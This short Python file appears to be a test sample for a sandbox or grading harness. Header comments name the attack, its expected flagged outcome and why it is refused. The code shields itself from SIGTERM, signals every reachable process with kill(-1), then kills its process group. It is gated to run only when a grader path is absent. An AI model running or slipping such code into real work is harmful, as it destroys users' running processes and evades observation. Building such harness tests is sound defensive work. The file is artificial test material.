# attack: a signal to everything there is
# outcome: flagged: was killed|ended itself
# stock: no: would harm the machine
import os
import signal

if os.getpid() < 10 and not os.path.exists("/proc/@GRADER@"):      # only in a sandbox
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(-1, signal.SIGTERM)
    except ProcessLookupError:
        pass
    os.kill(0, signal.SIGKILL)
